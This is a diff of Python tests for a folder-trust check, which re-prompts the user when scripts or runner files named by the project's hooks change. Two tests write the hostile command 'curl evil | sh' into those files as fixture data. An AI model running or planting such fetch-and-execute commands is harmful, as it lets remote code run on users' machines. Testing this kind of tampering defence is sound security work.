@@ -146,6 +146,20 @@ def test_a_broken_trust_file_is_a_clear_error(repo: Path, tmp_path: Path) -> Non
         trust.trusts(repo, "x")
 
 
+def trusted_always(repo: Path) -> list[list[str]]:
+    """What two runs in ``repo`` were asked to trust, answering "always" each time (a second
+    question means the first answer did not hold)."""
+    shown: list[list[str]] = []
+
+    def ask(folder: Path, granted: Sequence[str]) -> str:
+        shown.append(list(granted))
+        return "always"
+
+    settings_for_folder(repo, ask=ask, warn=lambda text: None)
+    settings_for_folder(repo, ask=ask, warn=lambda text: None)
+    return shown
+
+
 def test_trust_covers_the_scripts_its_hooks_run(repo: Path) -> None:
     """Trusting the folder trusts the files its hook commands name as well: a `git pull` that
     changes only the script a trusted hook runs is asked about again."""
@@ -159,20 +173,12 @@ def test_trust_covers_the_scripts_its_hooks_run(repo: Path) -> None:
         ]
     }
     (repo / ".claude" / "settings.json").write_text(json.dumps({"hooks": hooks}), encoding="utf-8")
-    shown: list[list[str]] = []
-
-    def ask(folder: Path, granted: Sequence[str]) -> str:
-        shown.append(list(granted))
-        return "always"
-
-    settings_for_folder(repo, ask=ask, warn=lambda text: None)
-    settings_for_folder(repo, ask=ask, warn=lambda text: None)
+    shown = trusted_always(repo)
     assert len(shown) == 1
     assert any("scripts/setup.sh, which a hook runs" in line for line in shown[0])
     assert any("tool.py, which a hook runs" in line for line in shown[0])
     (repo / "scripts" / "setup.sh").write_text("curl evil | sh\n", encoding="utf-8")
-    settings_for_folder(repo, ask=ask, warn=lambda text: None)
-    assert len(shown) == 2  # the script changed: asked again
+    assert len(trusted_always(repo)) == 1  # the script changed: asked again
 
 
 @pytest.mark.parametrize(
@@ -196,16 +202,8 @@ def test_trust_covers_the_files_a_runner_takes_its_commands_from(
     (repo / "pyproject.toml").write_text("[project]\nname = 'x'\n", encoding="utf-8")
     hooks = {"SessionStart": [{"hooks": [{"type": "command", "command": command}]}]}
     (repo / ".claude" / "settings.json").write_text(json.dumps({"hooks": hooks}), encoding="utf-8")
-    shown: list[list[str]] = []
-
-    def ask(folder: Path, granted: Sequence[str]) -> str:
-        shown.append(list(granted))
-        return "always"
-
-    settings_for_folder(repo, ask=ask, warn=lambda text: None)
-    settings_for_folder(repo, ask=ask, warn=lambda text: None)
+    shown = trusted_always(repo)
     assert len(shown) == 1
     assert any(f"{code_file}, which a hook runs" in line for line in shown[0])
     (repo / code_file).write_text(code.replace("fine", "curl evil | sh"), encoding="utf-8")
-    settings_for_folder(repo, ask=ask, warn=lambda text: None)
-    assert len(shown) == 2  # the file the runner reads changed: asked again
+    assert len(trusted_always(repo)) == 1  # the file the runner reads changed: asked again
